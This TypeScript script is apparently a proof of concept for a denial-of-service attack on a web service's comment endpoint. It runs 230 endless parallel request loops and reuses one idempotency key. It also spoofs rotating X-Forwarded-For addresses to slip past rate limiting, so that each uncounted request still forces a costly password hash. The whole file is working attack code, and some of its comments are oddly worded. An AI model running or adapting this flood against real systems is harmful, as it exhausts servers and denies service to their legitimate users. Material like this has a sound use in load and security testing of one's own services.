import { Agent, request } from 'node:http'

/** What everyone repeats: a repeated request is never counted, yet each costs a hash of its password. */
const [, , origin = '', body = ''] = process.argv
const agent = new Agent({ keepAlive: true })

const many = 230
let served = 0

const home = (n: number): string => `2001:db8:1:${n.toString(16)}::1`
const homes = (n: number): string => `2001:db8:${(n + 2).toString(16)}::1`
const addressOf = process.argv[4] === 'homes' ? homes : home

const ask = (from: string): Promise<void> =>
  new Promise((done) => {
    const headers = { 'content-type': 'application/json', 'idempotency-key': 'flood', 'x-forwarded-for': from }
    const asked = request(new URL('/api/comment', origin), { method: 'POST', agent, headers }, (answer) => {
      served += answer.statusCode === 201 ? 1 : 0
      // From here on the queue is full of people who have had their turn, as it stays for the rest of the attack.
      if (served === many) process.stdout.write('attacking\n')
      answer.resume().on('end', done)
    })
    asked.on('error', () => done())
    asked.end(body)
  })

const attack = async (n: number): Promise<never> => {
  for (;;) await ask(addressOf(n))
}

await Promise.all(Array.from({ length: many }, (_, n) => attack(n)))
